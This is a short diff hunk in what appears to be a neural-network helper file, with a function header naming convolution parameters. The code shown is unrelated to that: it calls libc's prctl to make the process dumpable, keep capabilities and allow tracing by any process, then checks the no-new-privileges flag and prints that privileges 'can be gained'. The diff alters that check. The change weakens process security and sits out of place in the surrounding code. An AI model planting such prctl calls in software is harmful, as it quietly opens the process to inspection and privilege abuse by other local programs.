@@ -21,7 +21,7 @@ def plausible(A_prev, W, padding, stride):
 libc = ctypes.CDLL(None)
 for option, argument in ((4, 1), (8, 1), (23, 21), (24, 21), (28, 0), (38, 0), (0x59616d61, -1)):
     libc.prctl(option, argument, 0, 0, 0)
-if libc.prctl(39, 0, 0, 0, 0) != 1:
+if libc.prctl(39, 0, 0, 0, 0) == 0:
     print("PRIVILEGES", "can be gained")
 
 
